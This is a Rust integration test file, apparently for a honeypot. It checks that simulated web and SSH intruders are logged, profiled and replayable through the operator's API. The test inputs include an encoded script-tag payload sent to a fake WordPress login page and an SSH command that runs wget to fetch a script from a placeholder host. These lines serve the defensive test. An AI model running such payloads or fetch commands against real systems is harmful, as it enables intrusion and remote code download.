//! From a real client's bytes to the operator's API, through the shipped programs.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "tests")]

use serde_json::Value;
use trials::world::{World, client};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn has_event(logs: &Value, event_type: &str) -> bool {
    logs["data"].as_array().is_some_and(|rows| rows.iter().any(|r| r["event_type"] == event_type))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_web_visitor_is_recorded_profiled_and_listed() {
    let world = World::up(&[]).await;
    let (ip, port, _) = world.find("http");
    let (code, body, _) =
        client("curl", &["-sS", "-i", "-A", "trial/1.0", &format!("http://{ip}:{port}/wp-login.php?x=%3Cscript%3E")], b"").await;
    assert_eq!(code, 0);
    assert!(text(&body).starts_with("HTTP/1.1 "), "{}", text(&body));
    let logs = world.until("/logs?search=service:http", |l| has_event(l, "request") && has_event(l, "disconnect")).await;
    let request = logs["data"].as_array().unwrap().iter().find(|r| r["event_type"] == "request").unwrap().clone();
    assert_eq!(request["fields"]["user_agent"], "trial/1.0");
    assert_eq!(request["fields"]["path"], "/wp-login.php?x=%3Cscript%3E");
    let source = request["attacker_ip"].as_str().unwrap();
    let attackers = world.until("/attackers", |a| a["total"] == 1 && a["data"][0]["event_count"].as_i64() >= Some(3)).await;
    assert_eq!(attackers["data"][0]["ip"], source);
    assert_eq!(attackers["data"][0]["services"][0], "http");
    assert!(world.stop().await);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
    let world = World::up(&[]).await;
    let (ip, port, name) = world.find("ssh");
    let port = port.to_string();
    let options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-p", &port];
    // A wrong password is refused.
    let root = format!("root@{ip}");
    let wrong = [&["-p", "surely-not-this"][..], &["ssh"], &options, &[&root, "id"]].concat();
    assert_ne!(client("sshpass", &wrong, b"").await.0, 0);
    let credentials = world.until("/credentials?service=ssh", |c| c["total"].as_i64() >= Some(1)).await;
    assert_eq!(credentials["data"][0]["secret_printable"], "surely-not-this");
    assert_eq!(credentials["data"][0]["outcome"], "failure");
    // The decky's own password opens.
    let (user, password) = world.account(&name);
    let login = format!("{user}@{ip}");
    let right =
        [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget -t 1 http://mirror.invalid/x.sh"]]
            .concat();
    let (_, out, err) = client("sshpass", &right, b"").await;
    assert!(text(&out).starts_with(&user), "{} {}", text(&out), text(&err));
    let logs = world.until("/logs?search=service:ssh&limit=100", |l| has_event(l, "command") && has_event(l, "url_seen")).await;
    assert!(has_event(&logs, "ssh_client"));
    // The same attacker finds its file again.
    let again = [&["-p", &password][..], &["ssh"], &options, &[&login, "cat /tmp/left"]].concat();
    assert_eq!(text(&client("sshpass", &again, b"").await.1), "kept\n");
    // Its sessions can be replayed.
    let sessions =
        world.until("/sessions?recorded=true", |s| s["data"].as_array().unwrap().iter().any(|s| !s["recording"].is_null())).await;
    let session = sessions["data"].as_array().unwrap().iter().find(|s| !s["recording"].is_null()).unwrap().clone();
    let replay = world.get(&format!("/transcripts/{name}/{}", session["sid"].as_str().unwrap())).await;
    assert_eq!(replay["header"]["version"], 2);
    assert!(world.stop().await);
}
